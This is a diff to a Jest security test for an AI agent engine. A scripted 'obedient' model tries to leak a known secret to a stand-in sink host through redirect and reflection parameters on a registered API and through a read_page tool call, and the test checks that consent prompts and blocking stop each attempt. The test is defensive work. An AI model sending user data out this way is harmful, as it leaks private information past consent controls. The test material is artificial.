@@ -1,5 +1,8 @@
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { afterAll, afterEach, expect, test } from '@jest/globals';
 import { sessionId as asSessionId } from '../../../src/core/kernel/ids.ts';
+import { aProfile } from '../../harness/apis.ts';
 import {
   removeTemporaryDirs,
   startTestEngine,
@@ -41,7 +44,7 @@ const opened = (server: WebServer): WebServer => {
   return server;
 };
 
-async function world(): Promise<World> {
+async function world({ hasShop = false } = {}): Promise<World> {
   let orders: readonly string[] = [];
   const sink = opened(await startWebServer());
   const sinkUrl = `http://sink.example:${sink.port}`;
@@ -67,8 +70,14 @@ async function world(): Promise<World> {
   const lookedUp: string[] = [];
   const provider = await startFakeProvider(obedientProvider());
   closing.push(() => provider.close());
+  const dataDir = temporaryDir();
+  if (hasShop) {
+    mkdirSync(join(dataDir, 'apis'));
+    const profile = aProfile({ base_url: `http://shop.example:${shop.port}` });
+    writeFileSync(join(dataDir, 'apis', `${profile.id}.json`), JSON.stringify(profile));
+  }
   const engine = await startTestEngine({
-    dataDir: temporaryDir(),
+    dataDir,
     env: { SVC_LLM_PROVIDER: 'compat', PRIMARY_BASE_URL: `${provider.url}/v1`, COMPAT_MODEL_ID: 'local' },
     web: {
       resolve: async (name) => {
@@ -205,6 +214,36 @@ verifies(
     const everything = JSON.stringify([events, at.arrivedAtSink, at.provider.arrived]);
     expect(everything).not.toContain(SECRET);
     expect((await at.engine.client['consents.list']()).consents).toEqual([]);
+  },
+);
+
+verifies(
+  ['security.obedient', 'security.consent.provenance', 'security.consent.redirects'],
+  'a registered API is told what the model knows, and carries it nowhere: by no redirect and by nothing that it says again',
+  async () => {
+    const at = await world({ hasShop: true });
+    const out = `${encodeURIComponent(`${at.sink}/?d=`)}${KNOWN}`;
+    at.tells([
+      request(`${at.shop}/?to=${out}`),
+      request(`${at.shop}/?to=${out}`, { headers: { Accept: 'text/html' } }),
+      request(`${at.shop}/?say=${out}`),
+      request(`${at.sink}/?d=${KNOWN}`),
+      order('read_page', { url: `${at.sink}/?d=${KNOWN}` }),
+    ]);
+    const { results, asked } = await run(at, 'No');
+    expect(results.map(({ success }) => success)).toEqual([false, false, true, false, false]);
+    expect(asked.map(({ question }) => question)).toEqual([
+      expect.stringContaining('/?d='),
+      expect.stringContaining('/?d='),
+    ]);
+    expect(at.arrivedAtSink).toEqual([]);
+    // Another conversation has heard nobody but the profile.
+    const { id } = await newSession(at.engine);
+    at.provider.reply(obedientProvider());
+    const task = ['Look around.', order('read_page', { url: `${at.sink}/?d=all` }).replaceAll('/', '\\/')];
+    const events = await allAnswered(at.engine, await startRun(at.engine, id, task.join('\n')), 'No');
+    expect(events.filter(({ type }) => type === 'prompt')).toHaveLength(1);
+    expect(at.arrivedAtSink).toEqual([]);
   },
 );
 
